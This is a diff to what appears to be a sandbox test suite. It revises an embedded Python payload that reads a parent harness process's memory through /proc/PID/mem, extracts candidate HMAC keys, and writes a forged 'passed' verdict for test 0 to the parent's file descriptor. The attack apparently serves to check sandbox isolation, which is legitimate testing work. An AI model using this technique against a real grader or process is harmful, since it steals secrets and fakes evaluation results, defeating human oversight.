@@ -464,21 +464,22 @@ async def test_limits_of_the_wrong_type(sb: Sandbox) -> None:
 
 # ---------------------------------------------------------------- reaching into the harness process
 
-# A stdio test's fork has no key, but its parent (the run's pid 1) does: find the
-# 16-byte key there through /proc/1/mem, sign a pass for test 0 and write it to fd 3.
+# A stdio test's fork has no key, but its parent (the batch's supervisor) does: find the
+# 16-byte key there through /proc/PID/mem, sign a pass for test 0 and write it to fd 3.
 STEAL_KEY_FROM_PID_1 = r"""
 import hmac, os, re, struct
 
 def steal():
+    parent = os.getppid()
     regions = []
-    with open("/proc/1/maps") as m:
+    with open(f"/proc/{parent}/maps") as m:
         for line in m:
             p = line.split()
             if p[1].startswith("rw") and (len(p) < 6 or p[5] == "[heap]"):
                 a, b = (int(x, 16) for x in p[0].split("-"))
                 if b - a < 1 << 27:
                     regions.append((a, b))
-    mem = open("/proc/1/mem", "rb", 0)
+    mem = open(f"/proc/{parent}/mem", "rb", 0)
     pattern = struct.pack("<QQ", id(bytearray), 16)  # a bytearray of 16 bytes
     keys = []
     for a, b in regions:
@@ -489,7 +490,7 @@ def steal():
             mem.seek(start)
             keys.append(mem.read(16))
     payload = b'{"i": 0, "passed": true, "verdict": "ok", "detail": "forged"}'
-    fd = os.open("/proc/1/fd/3", os.O_WRONLY)
+    fd = os.open(f"/proc/{parent}/fd/3", os.O_WRONLY)
     for key in keys:
         tag = hmac.digest(key, payload, "sha256").hex()[:32].encode()
         os.write(fd, tag + b" " + payload + b"\n")
